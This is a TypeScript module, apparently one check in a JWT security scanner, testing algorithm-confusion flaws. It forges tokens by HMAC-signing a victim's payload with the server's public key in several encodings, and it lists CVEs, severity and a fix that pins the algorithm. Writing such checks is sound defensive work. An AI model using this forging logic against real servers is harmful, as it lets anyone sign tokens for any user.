import { createPublicKey } from 'node:crypto'
import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

export default tokenAttack({
  id: 'token/alg-confusion-rs-hs',
  rows: ['token.alg-confusion.rs-hs', 'token.alg-confusion.es-hs', 'token.alg-confusion.eddsa-hs'],
  title: 'An HMAC made with the server’s public key as the secret, in the encodings in which servers hold it',
  requirement: 'RFC 8725 section 3.1: a key is used with one algorithm only, and the verifier chooses it',
  impact: 'The public key is public: anyone signs tokens for any user.',
  remedy: "Name the one algorithm of the key: jwt.verify(token, publicKey, { algorithms: ['RS256'] }).",
  severity: 'critical',
  cwe: ['CWE-347', 'CWE-327'],
  references: ['RFC 8725 section 3.1', 'ASVS V9.1.2', 'CVE-2015-9235', 'CVE-2016-10555', 'CVE-2022-23541'],
  provenBy: 'rs-hs',
  needs: ['publicKey'],
  forge({ publicKey, victim }) {
    const { header, payload } = readToken(victim.token)
    return secretsOf(publicKey).flatMap(([name, secret]) =>
      (['HS256', 'HS512'] as const).map((alg) => ({
        name: `${alg} with the public key as ${name}`,
        token: assembleWithHmac({ ...header, alg }, payload, secret, `sha${alg.slice(2)}`),
      })),
    )
  },
})

function secretsOf(pem: string): [name: string, secret: Buffer | string][] {
  const key = createPublicKey(pem)
  const spki = key.export({ type: 'spki', format: 'pem' }).toString()
  const encodings: [string, Buffer | string][] = [
    ['PEM as given', pem],
    ['PEM with a final newline', `${spki.trim()}\n`],
    ['PEM without a final newline', spki.trim()],
    ['PEM with CRLF', `${spki.trim().replaceAll('\n', '\r\n')}\r\n`],
    ['DER', key.export({ type: 'spki', format: 'der' })],
    ['JWK', JSON.stringify(key.export({ format: 'jwk' }))],
  ]
  if (key.asymmetricKeyType === 'rsa')
    encodings.push(['PKCS#1 PEM', key.export({ type: 'pkcs1', format: 'pem' }).toString()])
  const distinct = new Map(encodings.map(([name, secret]) => [secret.toString('latin1' as never), { name, secret }]))
  return [...distinct.values()].map(({ name, secret }) => [name, secret])
}
